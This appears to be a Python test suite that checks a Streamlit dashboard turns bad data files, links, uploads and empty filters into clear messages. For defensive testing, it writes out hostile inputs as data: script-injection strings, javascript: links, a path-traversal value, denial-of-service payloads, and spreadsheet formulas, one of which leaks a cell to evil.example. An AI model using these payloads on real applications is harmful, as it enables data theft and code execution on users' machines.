"""Bad input gets a clear message, never a traceback, and loses nothing.

Driven by the registry and the catalog, so a new page or table is covered without an edit here:
- broken data files: every table in data.catalog.CATALOG, broken each way below, on every page that reads it;
- links: garbage for every URL parameter each page reads, every page;
- uploads: every file uploader (the presenter's scenes, and any a page draws), and any ``data.parse_user_*`` or
  ``data.load_user_*`` (users' own news rows);
- empty filter results: the per-page settings in bench/scenarios.py EMPTY_RESULT.
Every case also checks that another page still works and that no file in data/tables changed.
"""

import csv
import functools
import hashlib
import io
import json
import os
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Code, Widget

import data
from bench import apptest
from bench.scenarios import EMPTY_RESULT, EMPTY_RESULT_PREFIX
from components import filters as link_filters
from components.downloads import (
    FORMULA_STARTS,
    column_code,
    csv_bytes,
    excel_bytes,
    formula_safe,
    package_bytes,
)
from components.feedback import STILL_WORKING
from components.maps import arc_map, choropleth_map
from components.plain_text import WORD_JOINER
from components.presenter import MAX_SCENES, MAX_SCENES_FILE_BYTES, SCENES_KEY, parse_scenes
from components.registry import PAGES
from data.catalog import CATALOG, TABLES_DIR, TABLES_DIR_VARIABLE, tables_dir
from data.filters.frame import FILTERS as FRAME_FILTERS
from data.news import MAX_USER_COLUMNS, parse_user_news

PAGE_IDS = [page.url_path for page in PAGES]
DEFAULT_PAGE = PAGES[0].script
OTHER_PAGES_WORK = "other pages"  # load_or_stop's reassurance, part of every data message


# --- what must never change, and a private copy of the tables to break ----------------------------


def _tables_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.iterdir()):
        digest.update(path.name.encode() + path.read_bytes())
    return digest.hexdigest()


SHIPPED_DIGEST = _tables_digest(TABLES_DIR)


@pytest.fixture(scope="module", autouse=True)
def fast_apptest():
    with apptest.one_component_scan():
        yield


@pytest.fixture(autouse=True)
def shipped_tables_unchanged():
    yield
    assert _tables_digest(TABLES_DIR) == SHIPPED_DIGEST, "a shipped file in data/tables changed"


@pytest.fixture(scope="module")
def private_tables(tmp_path_factory):
    """One copy of data/tables for the module, read via MIGRATION_DASHBOARD_TABLES; each test restores what it
    broke with the original bytes and modification time, so the loaders' cache (keyed by path and mtime) keeps
    the intact tables parsed once (the same isolation as the `tables_copy` fixture, at a fraction of the time)."""
    folder = tmp_path_factory.mktemp("bad-input") / "tables"
    shutil.copytree(TABLES_DIR, folder)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(TABLES_DIR_VARIABLE, str(folder))
        yield folder


class Breakage:
    """Breaks one table file in the private copy, and puts it back afterwards."""

    _generation = 0

    def __init__(self, folder: Path, table: str):
        self.path = folder / f"{table}.csv"
        self._original = self.path.read_bytes()
        self._stat = self.path.stat()

    def write(self, content: bytes | None) -> bytes | None:
        if content is None:
            self.path.unlink()
            return None
        self.path.write_bytes(content)
        Breakage._generation += 1  # a fresh mtime, so no cached read of another breakage is reused
        os.utime(self.path, ns=(self._stat.st_atime_ns, self._stat.st_mtime_ns + Breakage._generation * 1000))
        return content

    def restore(self) -> None:
        self.path.write_bytes(self._original)
        os.utime(self.path, ns=(self._stat.st_atime_ns, self._stat.st_mtime_ns))

    def current(self) -> bytes | None:
        return self.path.read_bytes() if self.path.exists() else None


# --- page runs -------------------------------------------------------------------------------------


def run_pages(scripts: list[str]) -> dict[str, AppTest]:
    """Visit the pages one after the other in one session; the state after each visit, by script."""
    seen = {}
    app = apptest.open_page(scripts[0])
    seen[scripts[0]] = _snapshot(app)
    for script in scripts[1:]:
        app.switch_page(script)
        app.run()
        seen[script] = _snapshot(app)
    return seen


def _snapshot(app: AppTest) -> dict:
    return {
        "exceptions": apptest.exceptions(app),
        "errors": [error.value for error in app.error],
        "messages": apptest.messages(app),
        "titles": [title.value for title in app.title],
        "texts": _shown_texts(app),
    }


def _shown_texts(app: AppTest) -> list[str]:
    """Everything rendered as markdown, where text from outside could turn into markup; not widget values or
    code blocks (the view link), which are shown as typed."""
    texts = []
    for block in (app.main, app.sidebar):
        for node in block:
            value = getattr(node, "value", None)
            if not isinstance(node, (Widget, Code)) and isinstance(value, str):
                texts.append(value)
    return texts


def assert_works(state: dict, script: str) -> None:
    assert not state["exceptions"], f"{script} raised: {state['exceptions']}"
    assert not state["errors"], f"{script} shows errors: {state['errors']}"
    assert state["titles"] and state["titles"][0], f"{script} has no title"


@pytest.fixture(scope="module")
def readers(private_tables) -> dict[str, list[str]]:
    """Which pages need which table, in registry order: the tables each page's loaders locate in one visit of
    every page (every loader, and every cache key derived from tables, goes through data._located first)."""
    found = {table: [] for table in CATALOG}
    visiting = {"script": PAGES[0].script}
    original = data._located

    def spy(name: str):
        if visiting["script"] not in found[name]:
            found[name].append(visiting["script"])
        return original(name)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(data, "_located", spy)
        app = apptest.open_page(PAGES[0].script)
        for page in PAGES[1:]:
            visiting["script"] = page.script
            app.switch_page(page.script)
            app.run()
    order = [page.script for page in PAGES]
    return {table: sorted(scripts, key=order.index) for table, scripts in found.items()}


# --- broken data files -----------------------------------------------------------------------------


def _lines(original: bytes) -> list[bytes]:
    return original.splitlines(keepends=True)


def _rows(original: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(original.decode("utf-8"))))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


TYPED_VALUES = [  # (how a column's every filled value looks, a value of the wrong type for it)
    (r"-?\d+(\.\d+)?", "not-a-number"),
    (r"\d{4}-\d{2}-\d{2}", "2024-13-45"),
    (r"True|False", "perhaps"),
]


def _typed_column(rows: list[list[str]]) -> tuple[int, str] | None:
    """The first column whose filled values are all numbers, dates or booleans, and a value it must refuse."""
    for pattern, wrong in TYPED_VALUES:
        for column in range(len(rows[0])):
            values = [row[column] for row in rows[1:] if row[column] != ""]
            if values and all(re.fullmatch(pattern, value) for value in values):
                return column, wrong
    return None


def _with_cell(rows: list[list[str]], column: int, value: str) -> bytes:
    return _csv([rows[0], [*rows[1][:column], value, *rows[1][column + 1 :]], *rows[2:]])


BREAKAGES: dict[str, Callable[[bytes], bytes | None]] = {
    "missing file": lambda original: None,
    "empty file": lambda original: b"",
    "header only": lambda original: _lines(original)[0],
    "truncated mid-row": lambda original: _lines(original)[0] + b",".join(_lines(original)[1].split(b",")[:2]),
    "not UTF-8": lambda original: (
        _lines(original)[0] + "S\u00e3o Tom\u00e9,".encode("latin-1") + original[len(_lines(original)[0]) :]
    ),
    "binary garbage": lambda original: b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)) * 8,
    "first column missing": lambda original: _csv([row[1:] for row in _rows(original)]),
    "wrong type in a typed column": lambda original: _with_cell(_rows(original), *_typed_column(_rows(original))),
    "duplicate key (row repeated)": lambda original: (
        _lines(original)[0] + _lines(original)[1] + b"".join(_lines(original)[1:])
    ),
}


def _code_columns() -> list[tuple[str, str]]:
    """Columns holding country codes (named *iso3), outside the countries table that lists the codes."""
    return [
        (table, column)
        for table in CATALOG
        if table != "countries"
        for column in _shipped_rows(table)[0]
        if column.endswith("iso3")
    ]


def _unknown_code(column: str) -> Callable[[bytes], bytes]:
    def breaker(original: bytes) -> bytes:
        rows = _rows(original)
        return _with_cell(rows, rows[0].index(column), "ZZZ")

    return breaker


@functools.cache
def _shipped_rows(table: str) -> list[list[str]]:
    return _rows((TABLES_DIR / f"{table}.csv").read_bytes())


DATA_CASES = [
    (table, name, breaker)
    for table in CATALOG
    for name, breaker in BREAKAGES.items()
    if name != "wrong type in a typed column" or _typed_column(_shipped_rows(table))
]
DATA_CASES += [(table, f"unknown code ZZZ in {column}", _unknown_code(column)) for table, column in _code_columns()]
DATA_CASES += [("countries", "malformed code in iso3", lambda original: _with_cell(_rows(original), 0, "np<l"))]


@pytest.mark.parametrize(
    ("table", "breaker"),
    [(table, breaker) for table, _, breaker in DATA_CASES],
    ids=[f"{table}: {name}" for table, name, _ in DATA_CASES],
)
def test_broken_table_is_named_where_it_is_needed(private_tables, readers, table, breaker):
    """The first page that needs the table says which file is broken, and what still works; another page works."""
    breakage = Breakage(private_tables, table)
    broken = breakage.write(breaker(breakage.current()))
    try:
        needing = readers[table][:1]
        others = [page.script for page in PAGES if page.script not in readers[table]][:1]
        if not needing:  # no page reads it yet: its loader must still refuse it in words
            with pytest.raises(data.DataProblem, match=rf"{table}\.csv"):
                getattr(data, f"load_{table}")()
        states = run_pages(needing + others) if needing or others else {}
        for script in needing:
            state = states[script]
            assert not state["exceptions"], f"{script} raised: {state['exceptions']}"
            assert state["errors"], f"{script} shows no message for the broken {table}.csv"
            for message in map(_unescaped, state["errors"]):
                assert f"{table}.csv" in message, message
                if table in STILL_WORKING:  # the tables every other is checked against: not "other pages work"
                    assert OTHER_PAGES_WORK not in message and STILL_WORKING[table] in message, message
                else:
                    assert OTHER_PAGES_WORK in message, message
        for script in others:
            assert_works(states[script], script)
        assert breakage.current() == broken, "the app changed the file it could not read"
    finally:
        breakage.restore()


# --- links: garbage in every URL parameter a page reads --------------------------------------------

FRAME_KEYS = {spec.key for spec in FRAME_FILTERS}
LONG = "X" * 10_240
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
LINK_PAYLOADS: dict[str, str | list[str]] = {
    "unknown code": "ZZZ",
    "negative year": "-1990",
    "future year": "2999",
    "10 kB string": LONG,
    "HTML and script": SCRIPT,
    "repeated key": ["NPL", "<b>bold</b>"],
}


@pytest.fixture(scope="module")
def url_keys() -> dict[str, tuple[list[str], list[str], list[str], list[str]]]:
    """Per page: the URL parameters it checks (as a choice, list or number); every key it reads or draws a widget
    for (widget keys double as URL parameter names, so a key drawn but never read gets garbage too); the keys of
    its filter widgets; the keys of its file uploaders."""
    return {page.script: _url_keys(page.script) for page in PAGES}


def _url_keys(script: str) -> tuple[list[str], list[str], list[str], list[str]]:
    checked, read = [], []
    # raw_param reads any parameter; the other *_param readers check one against its choices, range or type.
    originals = {
        name: getattr(link_filters, name)
        for name in dir(link_filters)
        if name.endswith("_param") and name != "write_param" and callable(getattr(link_filters, name))
    }

    def spy(name):
        def wrapper(key, *args, **kwargs):
            (read if name == "raw_param" else checked).append(key)
            return originals[name](key, *args, **kwargs)

        return wrapper

    with pytest.MonkeyPatch.context() as patch:
        for name in originals:
            patch.setattr(link_filters, name, spy(name))
        app = apptest.open_page(script)
    # The frame's own filters (``lang``) are read, and noted, on the page a link opens first; open_page reaches
    # the page through the Overview, so their note is tested there (tests/test_i18n_pages.py).
    checked = [key for key in checked if key not in FRAME_KEYS]
    read = [key for key in read if key not in FRAME_KEYS]
    drawn = apptest.page_widget_keys(app)
    own = [widget for widget in apptest.widgets(app, include_sidebar=False) if widget.key]
    filters = [widget.key for widget in own if widget.type in apptest.FILTER_KINDS]
    uploaders = [widget.key for widget in own if widget.type == "file_uploader"]
    return list(dict.fromkeys(checked)), list(dict.fromkeys(read + drawn)), filters, uploaders


LINK_CASES = [(page, name) for page in PAGES for name in LINK_PAYLOADS]


@pytest.mark.parametrize(
    ("page", "payload_name"), LINK_CASES, ids=[f"{page.url_path}: {name}" for page, name in LINK_CASES]
)
def test_garbage_link_is_ignored_with_a_note(url_keys, page, payload_name):
    checked, every_key, _, _ = url_keys[page.script]
    payload = LINK_PAYLOADS[payload_name]
    keys = every_key or ["country"]  # a page that reads nothing must still shrug off a stray parameter
    app = apptest.open_page(page.script, query={key: payload for key in keys})
    assert not app.exception, apptest.exceptions(app)
    notes = apptest.messages(app)
    for key in checked:
        assert any(f"'{key}'" in note for note in notes), f"no note about the link's '{key}' ({payload_name})"
    for text in _shown_texts(app):
        assert "<script" not in text and "<img" not in text, f"link text rendered as markup: {text[:80]}"
        assert "X" * 300 not in text, "the 10 kB value is echoed on the page"
    app.switch_page(DEFAULT_PAGE if page.script != DEFAULT_PAGE else PAGES[-1].script)
    app.run()
    assert not app.exception and app.title, "the next page fails after a bad link"


@pytest.mark.parametrize("page", PAGES, ids=PAGE_IDS)
def test_a_page_with_filters_keeps_them_in_the_link(url_keys, page):
    """Otherwise the link tests above would send garbage nobody reads, and a view could not be bookmarked."""
    checked, _, filters, _ = url_keys[page.script]
    assert not filters or checked, f"filters {filters} are not read from the link through components/filters.py"


# --- empty filter results ------------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES, ids=PAGE_IDS)
def test_every_page_with_filters_has_an_empty_result_case(page):
    if apptest.page_widget_keys(apptest.open_page(page.script)):
        assert EMPTY_RESULT.get(page.url_path), f"add settings that match nothing for '{page.url_path}' to EMPTY_RESULT"


@pytest.mark.parametrize(
    "page",
    [page for page in PAGES if page.url_path in EMPTY_RESULT],
    ids=[page.url_path for page in PAGES if page.url_path in EMPTY_RESULT],
)
def test_filters_that_match_nothing_say_so(page):
    app = apptest.open_page(page.script)
    changes = EMPTY_RESULT[page.url_path]
    applied = apptest.apply_all(app, changes)
    missing = [change.key for change in changes if change not in applied]
    assert not missing, f"the page has no widget(s) {missing}: bench/scenarios.py EMPTY_RESULT is out of date"
    assert not app.exception, apptest.exceptions(app)
    infos = [info.value for info in app.info]
    assert any(info.startswith(EMPTY_RESULT_PREFIX) for info in infos), f"no 'nothing matches' message: {infos}"
    app.switch_page(DEFAULT_PAGE if page.script != DEFAULT_PAGE else PAGES[-1].script)
    app.run()
    assert not app.exception


# --- uploads: the presenter's scenes file, any page's uploader, user-supplied news ---------------

BAD_SCENE_FILES = {
    "not JSON": b"scenes: [overview]",
    "not UTF-8": b"\xff\xfe{\x00}\x00",
    "oversized": b'{"scenes": [' + b" " * (MAX_SCENES_FILE_BYTES + 1) + b"]}",
    "no scenes list": b'{"pages": []}',
    "unknown page": b'{"scenes": [{"title": "x", "page": "../../etc/passwd"}]}',
    "HTML title and long query": (
        '{"scenes": [{"title": "<script>alert(1)</script>", "page": "nowhere", "query": "' + "a" * 3_000 + '"}]}'
    ).encode(),
    "too many scenes": (
        '{"scenes": [' + ",".join(['{"title": "t", "page": "methods"}'] * (MAX_SCENES + 5)) + "]}"
    ).encode(),
    "30,000 nested brackets": b"[" * 30_000 + b"]" * 30_000,
    "30,000 nested objects": b'{"a":' * 30_000 + b"1" + b"}" * 30_000,
    "5,000-digit number": b'{"scenes": ' + b"9" * 5_000 + b"}",
    "scenes is an object": b'{"scenes": {"title": "t", "page": "methods"}}',
    "empty scenes list": b'{"scenes": []}',
}
# Every field of a scene given a value of every wrong JSON type (a dict for the page was a TypeError).
WRONG_JSON_VALUES = {"object": {}, "list": [], "number": 5, "null": None, "true": True, "nested": [[{"a": {}}]]}
BAD_SCENE_FILES |= {
    f"{field} is {kind}": json.dumps(
        {"scenes": [{"title": "t", "page": "methods", "query": "", field: value}]}
    ).encode()
    for field in ("title", "page", "query")
    for kind, value in WRONG_JSON_VALUES.items()
}


@pytest.mark.parametrize("content", BAD_SCENE_FILES.values(), ids=BAD_SCENE_FILES.keys())
def test_bad_scenes_file_is_explained(content):
    app = apptest.open_page(DEFAULT_PAGE)
    app.file_uploader(key="scene_upload").set_value(("scenes.json", content, "application/json"))
    app.run()
    assert not app.exception, apptest.exceptions(app)
    warnings = [warning.value for warning in app.warning]
    assert warnings, "a bad scenes file is explained in a warning"
    assert all("<script" not in text for text in _shown_texts(app))
    app.switch_page(PAGES[-1].script)
    app.run()
    assert not app.exception and app.title


NEWS_HEADER = b"title,date,kind,topics,countries_iso3,publisher,url,summary\n"
BAD_UPLOADS = {
    "not UTF-8": b"date,title\n2024-01-01,S\xe3o Tom\xe9\n",
    "oversized": b"date,title,url\n" + b"2024-01-01,x,https://example.org\n" * 200_000,
    "not a table": b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256)),
    "HTML payload": b"date,title,url\n2024-01-01,<script>alert(1)</script>,javascript:alert(1)\n",
    "empty": b"",
    # Rows in the documented format of users' own news items (README), each wrong in one way.
    "impossible date, unknown kind": NEWS_HEADER + b"Fees reviewed,2024-13-45,rumour,recruitment,NPL,,,\n",
    "unknown country code": NEWS_HEADER + b"Fees reviewed,2024-05-17,news,recruitment,ZZZ,,,\n",
    "script link": NEWS_HEADER + b"<script>alert(1)</script>,2024-05-17,news,recruitment,NPL,x,javascript:alert(1),\n",
    "10 kB title": NEWS_HEADER + b"X" * 10_240 + b",2024,news,recruitment,,,,\n",
    # Headers that cost a quadratic parser minutes of CPU (each column's name was counted in the whole header).
    "60,000 columns of one name": b"title,date,kind,topics" + b",x" * 60_000 + b"\n",
    "60,000 empty columns": b"title,date,kind,topics" + b"," * 60_000 + b"\nA,2024,news,gender" + b"," * 60_000 + b"\n",
    "20,000 named columns": b"title,date,kind,topics," + b",".join(b"c%d" % n for n in range(20_000)) + b"\n",
    "10,000 bad rows": NEWS_HEADER + b"only,three,fields\n" * 10_000,
    "a formula as title": NEWS_HEADER + b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",2024-05-17,'
    b"news,recruitment,NPL,,,\n" + b"Fees,2024-13-45,news,recruitment,,,,\n",
    "a markdown link and image as title": NEWS_HEADER + b"[Click](https://evil.example/p) ![p](http://127.0.0.1:9/t),"
    b"2024,news,recruitment,,,,\nFees,2024,rumour,recruitment,,,,\n",
}


@pytest.fixture(scope="module")
def page_uploaders(url_keys) -> list[tuple[str, str]]:
    return [(script, key) for script, (_, _, _, uploaders) in url_keys.items() for key in uploaders]


@pytest.mark.parametrize("content", BAD_UPLOADS.values(), ids=BAD_UPLOADS.keys())
def test_bad_upload_on_a_page_is_explained(page_uploaders, content):
    assert page_uploaders, "the News page's user upload is gone: nothing here would test uploads"
    for script, key in page_uploaders:
        app = apptest.open_page(script)
        app.file_uploader(key=key).set_value(("upload.csv", content, "text/csv"))
        app.run()
        assert not app.exception, f"{script} raised on a bad upload: {apptest.exceptions(app)}"
        assert apptest.messages(app), f"{script} says nothing about a bad upload"
        assert all("<script" not in text for text in _shown_texts(app))


USER_PARSERS = sorted(name for name in dir(data) if name.startswith(("parse_user_", "load_user_")))


@pytest.mark.parametrize("content", BAD_UPLOADS.values(), ids=BAD_UPLOADS.keys())
def test_bad_user_file_is_refused_in_words(content):
    assert USER_PARSERS, "data.load_user_news is gone: nothing here would test user files"
    for name in USER_PARSERS:
        try:
            result = getattr(data, name)(content)
        except data.DataProblem as problem:
            assert str(problem)
            continue
        problems = result[1] if isinstance(result, tuple) else getattr(result, "problems", None)
        assert problems, f"{name} accepted a bad file without a word: {result!r:.200}"


# --- user text shown as text; downloads a spreadsheet cannot run ---------------------------------

MARKUP_TITLE = "[Click](https://evil.example/phish) ![p](http://127.0.0.1:9/track.png) [d](data:text/html,hi) :red[x]"
EVERY_PUNCTUATION_ESCAPED = re.compile(r"(?:\\[!-/:-@\[-`{-~]|[^!-/:-@\[-`{-~])*")


def test_scene_title_is_plain_text_in_the_presenter_bar():
    """A scene titled with markdown links, an image and a data: URL shows those characters, not links."""
    scene_file = json.dumps({"scenes": [{"title": MARKUP_TITLE, "page": "methods"}]}).encode()
    loaded, problems = parse_scenes(scene_file)
    assert not problems and loaded[0].title == MARKUP_TITLE
    app = apptest.open_page(DEFAULT_PAGE, query={"present": "1", "scene": "1"})
    app.session_state[SCENES_KEY] = loaded
    app.run()
    assert not app.exception, apptest.exceptions(app)
    captions = [caption.value for caption in app.caption if caption.value.startswith("Scene 1 of 1")]
    assert captions, [caption.value for caption in app.caption]
    title_shown = captions[0].split(": ", 1)[1]
    assert EVERY_PUNCTUATION_ESCAPED.fullmatch(title_shown), title_shown
    assert _unescaped(title_shown) == MARKUP_TITLE
    assert WORD_JOINER in title_shown.split("evil")[0]  # "https:" and "//" kept apart: no bare-address autolink


def test_error_messages_show_cell_values_as_plain_text(private_tables):
    """A cell value quoted in a data message cannot become a link or an image."""
    breakage = Breakage(private_tables, "news")
    rows = _rows(breakage.current())
    breakage.write(_with_cell(rows, rows[0].index("date"), "[x](https://evil.example) ![i](http://127.0.0.1:9/i)"))
    try:
        app = apptest.open_page("pages/news.py")
        assert not app.exception, apptest.exceptions(app)
        errors = [error.value for error in app.error]
        assert errors and all("](" not in error for error in errors), errors
        assert any("evil\\.example" in error for error in errors), errors
    finally:
        breakage.restore()


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab"]


def test_formula_starts_follow_owasp():
    cells = pd.DataFrame({"text": ["\r=1", "=1", "+A1", "-1+1", "@x", "\t=1", "ok", "-7", "+3.5"]})
    assert list(formula_safe(cells)["text"]) == ["'\r=1", "'=1", "'+A1", "'-1+1", "'@x", "'\t=1", "ok", "-7", "+3.5"]


def _formula_table():
    return pd.DataFrame(
        {"title": [*FORMULAS, "Plain title", "-12.5"], "count": range(len(FORMULAS) + 2), "source_id": "ilo-news"}
    )


@pytest.mark.parametrize("download", ["csv", "excel", "zip"])
def test_downloads_neutralise_formulas_without_changing_the_shown_table(download):
    sources = data.load_sources()
    table = _formula_table()
    shown = table.copy()
    common = {"title": "=cmd|' /C calc'!A0", "measure": "m", "filters": ["Search: =1+1"]}
    if download == "csv":
        cells = {"data": pd.read_csv(io.BytesIO(csv_bytes(table, sources)), keep_default_na=False)}
    elif download == "excel":
        workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes(table, sources, **common)))
        formulas = [
            cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        ]
        assert not formulas, f"live formulas in the Excel download: {formulas}"
        cells = pd.read_excel(io.BytesIO(excel_bytes(table, sources, **common)), sheet_name=None)
        # the data sheet's first row holds readable labels, its second the column codes
        cells["data"] = pd.read_excel(io.BytesIO(excel_bytes(table, sources, **common)), sheet_name="data", header=1)
    else:
        with zipfile.ZipFile(io.BytesIO(package_bytes({"news": table}, sources, **common))) as archive:
            cells = {
                # headed "Label (unit) [code]": by code here
                name: pd.read_csv(archive.open(name), keep_default_na=False).rename(columns=column_code)
                for name in archive.namelist()
                if name.endswith(".csv")
            }
    data_cells = next(iter(cells.values()))
    assert list(data_cells["title"][: len(FORMULAS)]) == ["'" + formula for formula in FORMULAS]
    assert data_cells["title"].iloc[-2] == "Plain title" and str(data_cells["title"].iloc[-1]) == "-12.5"
    for frame in cells.values():
        for column in frame.columns:
            for value in frame[column]:
                assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-12.5"), value
    pd.testing.assert_frame_equal(table, shown)  # what the page shows is untouched


# --- unreadable, missing and remembered tables -----------------------------------------------------

OS_ERRORS = {
    "permission denied": PermissionError(13, "Permission denied"),
    "I/O error": OSError(5, "Input/output error"),
    "a folder where the file should be": IsADirectoryError(21, "Is a directory"),
}


@pytest.mark.parametrize("where", ["stat", "read"])
@pytest.mark.parametrize("error", OS_ERRORS.values(), ids=OS_ERRORS.keys())
def test_unreadable_table_gives_the_clear_message(private_tables, monkeypatch, where, error):
    """chmod 000 on a table or its folder (simulated: the tests run as root, who may read anyway)."""
    path = private_tables / "remittances.csv"
    if where == "stat":
        original = Path.stat
        monkeypatch.setattr(
            Path, "stat", lambda self, **kwargs: _raise(error) if self == path else original(self, **kwargs)
        )
    else:
        breakage = Breakage(private_tables, "remittances")
        breakage.write(breakage.current())  # a fresh modification time: the good read is not reused
        original = pd.read_csv
        monkeypatch.setattr(
            pd,
            "read_csv",
            lambda source, *args, **kwargs: _raise(error) if source == path else original(source, *args, **kwargs),
        )
    try:
        with pytest.raises(data.DataProblem, match=r"remittances\.csv.*cannot be read") as problem:
            data.load_remittances()
        assert error.strerror in str(problem.value) and str(private_tables) not in str(problem.value)
        app = apptest.open_page("pages/remittances.py")
        assert not app.exception, apptest.exceptions(app)
        assert any(
            "remittances.csv" in message and "cannot be read" in message
            for message in (_unescaped(error.value) for error in app.error)
        ), [error.value for error in app.error]
    finally:
        if where == "read":
            breakage.restore()


def _unescaped(markdown: str) -> str:
    """A message as the reader sees it: plain_markdown's backslashes and word joiners are not shown."""
    return markdown.replace("\\", "").replace(WORD_JOINER, "")


def _raise(error: Exception):
    raise error


def test_unreadable_folder_gives_the_clear_message(private_tables, monkeypatch):
    original = Path.is_dir
    monkeypatch.setattr(
        Path,
        "is_dir",
        lambda self: _raise(PermissionError(13, "Permission denied")) if self == private_tables else original(self),
    )
    with pytest.raises(data.DataProblem, match=r"sources\.csv.*cannot be read \(Permission denied\)"):
        data.load_sources()


def test_a_failed_load_is_remembered_like_a_good_one(private_tables, monkeypatch):
    """An invalid file is read and validated once per version (path, modification time, size), not every rerun."""
    breakage = Breakage(private_tables, "remittance_costs")
    broken = breakage.write(_with_cell(_rows(breakage.current()), 0, "ZZZ"))
    reads = []
    original = data.read_csv_table
    monkeypatch.setattr(data, "read_csv_table", lambda table, path: reads.append(table) or original(table, path))
    try:
        messages = []
        for _ in range(3):
            with pytest.raises(data.DataProblem) as problem:
                data.load_remittance_costs()
            messages.append(str(problem.value))
        assert reads == ["remittance_costs"] and len(set(messages)) == 1, reads
        breakage.write(broken + b"\n")  # another size and time: read again
        with pytest.raises(data.DataProblem):
            data.load_remittance_costs()
        assert reads == ["remittance_costs"] * 2
    finally:
        breakage.restore()


def test_missing_tables_folder_names_the_folder_and_the_variable(monkeypatch, tmp_path):
    nowhere = tmp_path / "no-such-folder"
    monkeypatch.setenv(TABLES_DIR_VARIABLE, str(nowhere))
    with pytest.raises(data.DataProblem) as problem:
        data.load_sources()
    assert str(nowhere) in str(problem.value) and TABLES_DIR_VARIABLE in str(problem.value)
    app = apptest.open_page(DEFAULT_PAGE)
    assert not app.exception, apptest.exceptions(app)
    shown = [_unescaped(error.value) for error in app.error]
    assert any(TABLES_DIR_VARIABLE in message and str(nowhere) in message for message in shown), shown


def test_empty_tables_variable_reads_the_shipped_tables(monkeypatch, tmp_path):
    """Empty counts as unset: never the current folder (which may hold anything called sources.csv)."""
    (tmp_path / "sources.csv").write_text("not,the,sources\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(TABLES_DIR_VARIABLE, "")
    assert tables_dir() == TABLES_DIR
    assert CATALOG["sources"].path == TABLES_DIR / "sources.csv"


# --- map tooltips and the news header --------------------------------------------------------------


def test_map_tooltips_escape_names():
    name = '<img src=x onerror="alert(1)">'
    arcs = pd.DataFrame(
        {
            "origin": [name],
            "destination": ["Qatar"],
            "agreements": [2],
            "source_lon": [85.0],
            "source_lat": [28.0],
            "target_lon": [51.0],
            "target_lat": [25.0],
        }
    )
    deck = arc_map(arcs, value_column="agreements", tooltip_html="<b>{origin} → {destination}</b>").to_json()
    shapes = {
        "type": "FeatureCollection",
        "features": [
            {"type": "Feature", "geometry": {"type": "Point", "coordinates": [85, 28]}, "properties": {"iso3": "NPL"}}
        ],
    }
    filled = choropleth_map(
        pd.DataFrame({"iso3": ["NPL"], "name": [name], "value": [1.0]}),
        shapes,
        value_column="value",
        tooltip_html="<b>{name}</b>",
    ).to_json()
    for shown in (deck, filled):
        assert "<img" not in shown and "&lt;img" in shown
    assert list(arcs["origin"]) == [name]  # the caller's frame is untouched


def test_news_header_with_thousands_of_columns_is_refused_before_per_column_work():
    """Was quadratic: 60,000 same-name columns (120 kB) cost 23-36 s of CPU, refused now on reading the header."""
    items, problems = parse_user_news(BAD_UPLOADS["60,000 columns of one name"], country_codes=frozenset())
    assert items.empty and problems == [
        f"Line 1: the header has 60,004 columns; a file of items has at most {MAX_USER_COLUMNS} (see the format below)."
    ]
